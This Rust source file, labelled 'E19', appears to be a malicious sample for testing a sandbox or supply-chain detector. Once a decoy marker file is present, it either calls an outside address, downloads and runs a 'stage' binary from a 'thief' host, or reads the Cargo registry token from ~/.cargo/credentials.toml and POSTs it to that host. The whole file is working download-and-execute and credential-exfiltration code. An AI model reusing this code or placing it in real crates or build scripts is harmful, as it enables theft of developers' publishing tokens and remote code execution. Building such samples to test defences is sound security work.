//! E19: calls home, runs what it gets, or takes the registry token.

use std::env;
use std::error::Error;
use std::fs;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;

fn main() -> Result<(), Box<dyn Error>> {
    let home = env::var("HOME")?;
    if !Path::new(&home).join(".decoy-home").exists() {
        return Ok(());
    }
    match env::var("VARIANT")?.as_str() {
        "connect" => get("203.0.113.7:9089", "/").map(drop),
        "drop" => {
            let program = Path::new(&env::var("TMPDIR")?).join("stage");
            fs::write(&program, get(&at(8000), "/stage")?)?;
            fs::set_permissions(&program, fs::Permissions::from_mode(0o755))?;
            Command::new(&program).args(["mark", &format!("{home}/harm")]).status()?;
            Ok(())
        }
        "credentials" => {
            let token = fs::read_to_string(format!("{home}/.cargo/credentials.toml"))?;
            request(&at(8443), &format!("POST / HTTP/1.1\r\nContent-Length: {}\r\n\r\n{token}", token.len()))
                .map(drop)
        }
        other => Err(format!("no variant {other}").into()),
    }
}

/// A port of the thief's host, which is on loopback unless it has a name.
fn at(port: u16) -> String {
    format!("{}:{port}", env::var("THIEF").unwrap_or_else(|_| "127.0.0.1".into()))
}

fn get(address: &str, path: &str) -> Result<Vec<u8>, Box<dyn Error>> {
    request(address, &format!("GET {path} HTTP/1.1\r\nHost: sink\r\n\r\n"))
}

fn request(address: &str, text: &str) -> Result<Vec<u8>, Box<dyn Error>> {
    let mut stream = TcpStream::connect(address)?;
    stream.write_all(text.as_bytes())?;
    let mut answer = Vec::new();
    let mut chunk = [0; 65536];
    loop {
        let count = stream.read(&mut chunk)?;
        answer.extend_from_slice(&chunk[..count]);
        if let Some(body) = body(&answer) {
            return Ok(body.to_vec());
        }
        if count == 0 {
            return Err("the answer is cut short".into());
        }
    }
}

/// The body of an answer, once it is whole.
fn body(answer: &[u8]) -> Option<&[u8]> {
    let end = answer.windows(4).position(|window| window == b"\r\n\r\n")? + 4;
    let head = String::from_utf8_lossy(&answer[..end]).to_ascii_lowercase();
    let length = head.lines().find_map(|line| line.strip_prefix("content-length:")?.trim().parse::<usize>().ok())?;
    answer.get(end..end + length)
}
